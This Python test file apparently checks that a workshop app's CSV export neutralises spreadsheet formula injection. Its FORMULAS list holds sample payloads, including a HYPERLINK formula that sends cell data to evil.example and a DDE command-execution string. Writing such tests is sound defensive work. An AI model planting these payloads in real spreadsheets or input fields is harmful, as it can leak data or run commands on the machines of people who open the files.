"""Issue 11: attacks an outsider (or a participant) could try, each reproduced here."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask

from cocreate.db import db
from cocreate.export.formats import export_file
from cocreate.export.results_csv import safe_cell
from cocreate.workshop.models import CafeTable, Challenge, Workshop
from tests.integration.test_export import run_workshop

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_neutralises_formulas_in_challenges_and_table_names(
    app: Flask, workshop: Workshop, payload: str
) -> None:
    played = run_workshop(workshop)
    for challenge in db.session.scalars(db.select(Challenge)):
        challenge.text = payload
    for table in db.session.scalars(db.select(CafeTable)):
        table.name = payload
    db.session.commit()

    body = export_file(played.workshop, "csv").decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body, newline="")))

    assert rows[0] == ["rank", "challenge", "score", "tables"]
    for rank, challenge, score, tables in rows[1:]:
        assert challenge == "'" + payload
        assert tables == "" or tables.startswith("'" + payload)
        # Computed numbers stay numbers: no quote in front of rank or score.
        assert rank.isdigit() and score.isdigit()


def test_csv_keeps_negative_numbers_numeric_and_plain_text_untouched() -> None:
    assert safe_cell(-2) == -2
    assert safe_cell(-1.5) == -1.5
    assert safe_cell("-2") == "'-2"  # typed text that looks like a number is still text
    assert safe_cell("Bedre kommunikation") == "Bedre kommunikation"
    assert safe_cell("1+1=2") == "1+1=2"
